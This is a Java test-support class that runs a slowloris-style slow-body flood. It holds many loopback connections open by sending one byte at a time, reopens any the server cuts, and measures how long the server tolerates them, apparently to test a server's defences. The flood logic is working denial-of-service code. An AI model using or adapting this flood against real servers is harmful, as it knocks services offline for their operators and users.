package io.wecominbox.testsupport;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;

/**
 * A slow-body attack (slowloris on the body): {@code connections} sockets, spread over {@code sources} loopback
 * addresses (127.0.0.2, 127.0.0.3, ...: Linux accepts any 127/8 source), each posting to a callback URL with a
 * declared Content-Length and then one byte every {@code byteEvery}. A socket the server closes is replaced at
 * once, so the pressure holds until {@link #stop()}. One thread and a selector drive them all.
 *
 * <p>It records how long the server let each one live: a server that never cuts them shows as connections
 * still open at the end and lifetimes as long as the attack.
 */
public final class SlowBodyFlood implements AutoCloseable {

    private final InetSocketAddress server;
    private final String requestHead;
    private final int connections;
    private final int sources;
    private final long byteEveryNanos;
    private final AtomicBoolean running = new AtomicBoolean(true);
    private final Map<SocketChannel, Long> openedAt = new HashMap<>();
    private final List<Long> cutAfterMillis = new ArrayList<>();
    private final Thread driver;
    private int opened;
    private int refused;
    private int stillOpenAtStop = -1;

    /** @param path the request target (path and query) the attack posts to */
    public SlowBodyFlood(InetSocketAddress server, String path, int declaredLength, int connections, int sources,
                         long byteEveryMillis) {
        this.server = server;
        this.requestHead = "POST " + path + " HTTP/1.1\r\nHost: " + server.getHostString() + ":" + server.getPort()
                + "\r\nContent-Type: text/xml\r\nContent-Length: " + declaredLength + "\r\n\r\n<";
        this.connections = connections;
        this.sources = sources;
        this.byteEveryNanos = byteEveryMillis * 1_000_000L;
        this.driver = new Thread(this::drive, "slow-body-flood");
        this.driver.setDaemon(true);
    }

    public SlowBodyFlood start() {
        driver.start();
        return this;
    }

    private void drive() {
        try (Selector selector = Selector.open()) {
            for (int i = 0; i < connections; i++) {
                open(selector, i);
            }
            long nextByte = System.nanoTime() + byteEveryNanos;
            ByteBuffer sink = ByteBuffer.allocate(4096);
            while (running.get()) {
                selector.select(Math.max(1, (nextByte - System.nanoTime()) / 1_000_000L));
                for (SelectionKey key : selector.selectedKeys()) {
                    if (!key.isValid()) {
                        continue;
                    }
                    SocketChannel channel = (SocketChannel) key.channel();
                    // readable: the server answered (an error) or closed; either way this socket is done
                    sink.clear();
                    int n = readQuietly(channel, sink);
                    if (n < 0 || n > 0) {
                        closed(selector, channel, key);
                    }
                }
                selector.selectedKeys().clear();
                if (System.nanoTime() - nextByte >= 0) {
                    nextByte += byteEveryNanos;
                    for (SelectionKey key : new ArrayList<>(selector.keys())) {
                        if (!key.isValid()) {
                            continue; // cancelled above, leaves the set at the next select
                        }
                        SocketChannel channel = (SocketChannel) key.channel();
                        try {
                            channel.write(ByteBuffer.wrap(new byte[] {'x'}));
                        } catch (IOException cut) {
                            closed(selector, channel, key);
                        }
                    }
                }
            }
            synchronized (this) {
                stillOpenAtStop = (int) selector.keys().stream().filter(SelectionKey::isValid).count();
            }
            for (SelectionKey key : selector.keys()) {
                key.channel().close(); // a cancelled key's channel is closed already: close is idempotent
            }
        } catch (IOException e) {
            throw new IllegalStateException("the slow-body flood broke: " + e, e);
        }
    }

    private void closed(Selector selector, SocketChannel channel, SelectionKey key) {
        key.cancel();
        long lived = (System.nanoTime() - openedAt.remove(channel)) / 1_000_000L;
        synchronized (this) {
            cutAfterMillis.add(lived);
        }
        try {
            channel.close();
        } catch (IOException ignored) {
            // already gone
        }
        if (running.get()) {
            open(selector, opened);
        }
    }

    private void open(Selector selector, int index) {
        try {
            SocketChannel channel = SocketChannel.open();
            channel.bind(new InetSocketAddress(InetAddress.getByAddress(sourceAddress(index)), 0));
            channel.connect(server); // blocking connect: loopback, immediate
            channel.write(ByteBuffer.wrap(requestHead.getBytes(StandardCharsets.US_ASCII)));
            channel.configureBlocking(false);
            channel.register(selector, SelectionKey.OP_READ);
            openedAt.put(channel, System.nanoTime());
            synchronized (this) {
                opened++;
            }
        } catch (IOException refusedOrReset) {
            synchronized (this) {
                refused++; // the server's connection limit, or a reset: both are the server defending itself
            }
        }
    }

    private byte[] sourceAddress(int index) {
        int source = 2 + index % sources;
        return new byte[] {127, 0, (byte) (source / 250), (byte) (source % 250)};
    }

    private static int readQuietly(SocketChannel channel, ByteBuffer sink) {
        try {
            return channel.read(sink);
        } catch (IOException reset) {
            return -1;
        }
    }

    /** Ends the attack: closes every socket still open and returns what the server did to them. */
    public Result stop() throws InterruptedException {
        running.set(false);
        driver.join(30_000);
        synchronized (this) {
            return new Result(opened, refused, stillOpenAtStop, List.copyOf(cutAfterMillis));
        }
    }

    @Override
    public void close() throws InterruptedException {
        if (running.get()) {
            stop();
        }
    }

    /**
     * @param opened         sockets that connected and sent their head
     * @param refused        connects refused or reset before the head went out
     * @param stillOpenAtStop sockets the server had not cut when the attack stopped
     * @param cutAfterMillis how long the server let each cut socket live
     */
    public record Result(int opened, int refused, int stillOpenAtStop, List<Long> cutAfterMillis) {

        public long longestCutMillis() {
            return cutAfterMillis.stream().mapToLong(Long::longValue).max().orElse(0);
        }
    }
}
